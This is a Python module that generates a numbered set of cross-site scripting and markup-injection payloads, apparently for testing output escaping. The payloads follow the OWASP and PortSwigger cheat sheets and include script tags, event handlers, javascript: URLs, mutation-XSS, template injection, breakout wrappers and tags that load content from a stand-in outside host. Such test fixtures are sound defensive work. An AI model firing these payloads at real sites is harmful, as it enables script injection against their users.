"""Text that would run, if it were ever taken for markup: each shape in each surrounding.

After the OWASP and PortSwigger cheat sheets. `%` is a number, so that each is told apart.
"""

SHAPES = (
    "<script>alert(%)</script>",
    "<img src=x onerror=alert(%)>",
    "<svg onload=alert(%)>",
    "<svg><script>alert(%)</script></svg>",
    "<iframe src=javascript:alert(%)></iframe>",
    "<iframe srcdoc='<script>parent.alert(%)</script>'></iframe>",
    "<body onload=alert(%)>",
    "<input autofocus onfocus=alert(%)>",
    "<details open ontoggle=alert(%)>x</details>",
    "<video><source onerror=alert(%)></video>",
    "<marquee onstart=alert(%)>x</marquee>",
    "<a href=javascript:alert(%)>x</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(%)>",
    "<object data=javascript:alert(%)></object>",
    "<embed src=https://elsewhere.example/%>",
    "<link rel=stylesheet href=https://elsewhere.example/%.css>",
    "<meta http-equiv=refresh content='0;url=https://elsewhere.example/%'>",
    "<base href=https://elsewhere.example/%/>",
    "<form action=https://elsewhere.example/%><button>x</button></form>",
    "<style>@import 'https://elsewhere.example/%.css';</style>",
    "<div style=background:url(https://elsewhere.example/%.png)>x</div>",
    "<div hx-get=https://elsewhere.example/% hx-trigger=load>x</div>",
    "<div hx-on::load=alert(%)>x</div>",
    "<template><script>alert(%)</script></template>",
    "{{ 7 * % }}{% raw %}",
    "${alert(%)}",
    "javascript:alert(%)",
    "&lt;script&gt;alert(%)&lt;/script&gt;",
    "<scr<script>ipt>alert(%)</scr</script>ipt>",
    "\u202e<script>alert(%)</script>\u2066",
)
SURROUNDINGS = (
    "{}",
    '">{}',
    "'>{}",
    "</title></textarea></script></style></template>{}",
    '" onmouseover="alert(1)" x="{}',
)


def payloads() -> tuple[str, ...]:
    """All of them, numbered."""
    made = [around.replace("{}", shape) for around in SURROUNDINGS for shape in SHAPES]
    return tuple(one.replace("%", str(number)) for number, one in enumerate(made, start=1000))
